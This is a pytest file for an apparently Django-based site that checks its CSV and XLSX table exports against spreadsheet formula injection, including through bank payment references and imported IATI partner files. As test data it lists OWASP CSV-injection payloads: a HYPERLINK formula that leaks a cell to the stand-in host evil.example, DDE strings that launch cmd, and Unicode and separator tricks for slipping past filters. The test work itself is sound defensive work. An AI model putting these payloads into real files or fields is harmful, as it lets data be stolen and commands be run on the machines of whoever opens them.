"""Every file the site lets people download as a table is safe to open in a spreadsheet.

The files are opened as a spreadsheet would open them: the CSV split at our `;` and at the
other separators a spreadsheet may choose (`,` for English Excel, tab, line ends), the XLSX read
by openpyxl and as raw XML. A cell "would be evaluated" when its first visible character, after
the spaces, quotes and invisible characters spreadsheets skip, is a formula sign (OWASP's CSV
Injection): `evaluated()` below says so without asking the writer (cocopa.core.tables).
"""

import ast
import csv
import io
import re
import unicodedata
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import translation
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from cocopa.core import tables

PACKAGE = Path(__file__).resolve().parent.parent  # cocopa/

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Ricevuta")'
# OWASP's CSV Injection variants and the ways around a check of the first character only.
PAYLOADS = [
    HYPERLINK,
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",  # DDE
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',  # DDE, LibreOffice
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "＝1+1",  # full-width equals
    "＋1+1",
    "﹦1+1",  # small equals
    "−1+1",  # minus sign
    "   =1+1",
    '"=1+1',
    '" =1+1',
    "\u00a0=1+1",  # no-break space
    "\u200b=1+1",  # zero-width space
    "\u202e=1+1",  # right-to-left override
    "\ufeff=1+1",
    "Rossi,=1+1",  # hidden after a separator
    "Rossi, =1+1",
    "Rossi;=1+1",
    "Rossi;\t@SUM(1)",
    "Rossi\t-1+1",
    "Rossi\n=1+1",
    "Rossi\r\n+1+1",
    'Rossi,"=1+1',
    '=1+2";=1+2',  # OWASP's examples of breaking out of quotes
    "=1+2'\" ;,=1+2",
]
SIGNS = set("=+-@\u2212")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def evaluated(field: str) -> bool:
    """Whether a spreadsheet would run this cell as a formula (written apart from the writer)."""
    if NUMBER.fullmatch(field):
        return False  # read as a number: -12.50 is minus twelve fifty, not a formula
    for char in field:
        if char.isspace() or char == '"' or _invisible(char):
            continue  # spreadsheets trim these, or nobody sees them
        return unicodedata.normalize("NFKC", char)[0] in SIGNS
    return False


def _invisible(char: str) -> bool:
    return unicodedata.category(char) in ("Cc", "Cf")


def fields_as_spreadsheets_split_them(data: bytes) -> dict[str, list[str]]:
    """Every field of the CSV as read with our `;`, with `,` and with tab, and each line alone."""
    text = data.decode("utf-8-sig")
    views = {
        name: [f for row in csv.reader(io.StringIO(text, newline=""), delimiter=sep) for f in row]
        for name, sep in (("semicolon", ";"), ("comma", ","), ("tab", "\t"))
    }
    views["lines"] = re.split(r"\r\n|\r|\n", text)  # a reader that ignores quotes
    return views


def assert_no_csv_cell_is_evaluated(data: bytes) -> None:
    for name, fields in fields_as_spreadsheets_split_them(data).items():
        live = [f for f in fields if evaluated(f)]
        assert not live, f"split at {name}: {live}"


def assert_no_xlsx_cell_is_a_formula(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            xml = archive.read(name).decode()
            assert not re.search(r"<(\w+:)?f[ >/]", xml), f"a formula element in {name}"
            assert 't="str"' not in xml  # the type of a formula's cached text
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str) and evaluated(cell.value):
                    assert cell.quotePrefix, (cell.coordinate, cell.value)


# ---------------------------------------------------------------- one writer


def test_only_core_tables_writes_csv_or_xlsx():
    """An export written around cocopa.core.tables would not be neutralised."""
    found = []
    for path in PACKAGE.rglob("*.py"):
        relative = path.relative_to(PACKAGE)
        if relative == Path("core/tables.py") or "tests" in relative.parts:
            continue
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if isinstance(node, ast.Import | ast.ImportFrom):
                names = [a.name for a in node.names] + [getattr(node, "module", None) or ""]
                if any(n.split(".")[0] in {"openpyxl", "xlsxwriter", "xlwt", "odf"} for n in names):
                    found.append(f"{relative}:{node.lineno} imports a spreadsheet library")
            if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}:
                if isinstance(node.value, ast.Name) and node.value.id == "csv":
                    found.append(f"{relative}:{node.lineno} csv.{node.attr}")
    assert not found


# ---------------------------------------------------------------- the writer


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_no_csv_cell_is_evaluated_whichever_separator_the_spreadsheet_uses(payload):
    data = tables.csv_bytes(["reference", "amount"], [[payload, Decimal("-12.50")], ["ok", -3]])

    assert_no_csv_cell_is_evaluated(data)
    [_header, first, second] = list(
        csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";")
    )
    assert first[0].replace("'", "") == payload.replace("'", "")  # only quotes were added
    assert first[1] == "-12.50"  # a negative number stays a number, not neutralised text
    assert second == ["ok", "-3"]


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_no_xlsx_cell_is_a_formula_and_text_reads_back_as_written(payload):
    data = tables.xlsx_bytes([payload, "amount"], [[payload, Decimal("-12.50")], ["ok", -3]], sheet="s")

    assert_no_xlsx_cell_is_a_formula(data)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    visible = tables._NOT_IN_XML.sub("", payload)
    assert sheet["A2"].value == visible
    assert sheet["A1"].value == visible  # headers too
    assert (sheet["B2"].data_type, sheet["B2"].value) == ("n", -12.5)
    assert (sheet["B3"].data_type, sheet["B3"].value) == ("n", -3)


def test_harmless_text_is_written_untouched():
    texts = ["Città di Torino", "Rossi, Mario", "2026/0001", "a - b", "e-mail: x@y.it", "'quoted'"]

    data = tables.csv_bytes(texts, [texts])

    [header, row] = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert header == row == texts


def test_numbers_are_numbers_in_both_formats():
    row: list[tables.Cell] = [-5, Decimal("-1234.50"), Decimal("0.00"), 12, True]
    [_h, written] = list(
        csv.reader(io.StringIO(tables.csv_bytes(["a"] * 5, [row]).decode("utf-8-sig")), delimiter=";")
    )
    cells = list(load_workbook(io.BytesIO(tables.xlsx_bytes(["a"] * 5, [row], sheet="s"))).worksheets[0][2])

    assert written == ["-5", "-1234.50", "0.00", "12", "true"]
    assert [c.data_type for c in cells] == ["n", "n", "n", "n", "b"]
    assert [c.value for c in cells[:2]] == [-5, -1234.5]


def test_a_text_longer_than_excel_takes_is_cut_to_its_limit():
    data = tables.xlsx_bytes(["x"], [["a" * 40_000]], sheet="s")

    assert len(load_workbook(io.BytesIO(data)).worksheets[0]["A2"].value) == 32_767


# Texts made of what the attacks are made of, so that generated cases hit them often.
ATTACK_TEXT = st.text(
    alphabet=st.sampled_from(
        list("=+-@\t\r\n\x00 \"',;|!aZ1(") + ["＝", "－", "−", "\u200b", "\u202e", "\u00a0"]
    ),
    max_size=12,
) | st.text(max_size=12)


@settings(max_examples=300, deadline=None)
@given(st.lists(ATTACK_TEXT, min_size=1, max_size=4))
def test_no_generated_text_becomes_a_formula_in_either_format(texts):
    data = tables.csv_bytes(["x"] * len(texts), [texts])
    assert_no_csv_cell_is_evaluated(data)
    [_h, row] = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [r.replace("'", "") for r in row] == [t.replace("'", "") for t in texts]

    assert_no_xlsx_cell_is_a_formula(tables.xlsx_bytes(["x"] * len(texts), [texts], sheet="s"))


# ---------------------------------------------------------------- the site's exports


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_bank_reference_cannot_put_a_formula_into_the_offices_payments_export(
    client: Client, administrative_office_user, fmt
):
    """The finding: a 0.01 € transfer whose reference held a formula reached the office's file."""
    from cocopa.fees import testing as ft
    from cocopa.governance import testing as gt

    member = gt.make_member()
    for payload in PAYLOADS:
        # PostgreSQL cannot store NUL in text (and the bank import refuses it): the rest of each attack.
        ft.make_payment(member, "0.01", reference=payload.replace("\x00", ""))
    client.force_login(administrative_office_user)

    response = client.get(reverse("fees:export-payments", args=[fmt]))

    assert response.status_code == 200
    if fmt == "csv":
        assert_no_csv_cell_is_evaluated(response.content)
    else:
        assert_no_xlsx_cell_is_a_formula(response.content)
        sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
        assert {(c.data_type, c.value) for c in sheet["E"][1:]} == {("n", 0.01)}  # numbers


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_partners_iati_file_cannot_put_a_formula_into_the_public_initiatives_export(
    client: Client, settings, shared_data, tmp_path, fmt
):
    """The finding: a title and an organisation name from a partner's IATI file reach the
    public open-data files that anyone downloads."""
    from cocopa.cooperation.iati_import import import_file

    settings.IATI_SCHEMA_DIR = str(shared_data / "iati" / "schemas" / "2.03")
    # Another publisher's activities are held apart and never in these files (cooperation/README.md,
    # "Whose activity it is"); texts from a file still reach them when the file is the network's
    # own (one the office compiled from a partner's data): the file is imported as such here.
    settings.IATI_REPORTING_ORG_REF = "ES-CIF-G81164105"
    original = (shared_data / "iati" / "examples" / "acfspain-ml.xml").read_text()
    attack = HYPERLINK.replace("&", "&amp;")
    hostile = tmp_path / "partner.xml"
    hostile.write_text(
        original.replace("R2G ACF Mali</narrative>", f"{attack}</narrative>").replace(
            "ACTION AGAINST HUNGER SPAIN</narrative>", "Partner;@SUM(1)*cmd|' /C calc'!A0</narrative>"
        )
    )
    import_file(hostile)

    with translation.override("en"):
        url = reverse(f"cooperation:initiatives-{fmt}")
    response = client.get(url)

    assert response.status_code == 200
    if fmt == "csv":
        assert "HYPERLINK" in response.content.decode("utf-8-sig")
        assert_no_csv_cell_is_evaluated(response.content)
    else:
        assert_no_xlsx_cell_is_a_formula(response.content)
        values = [c.value for row in load_workbook(io.BytesIO(response.content)).worksheets[0] for c in row]
        assert HYPERLINK in values  # kept as text, readable
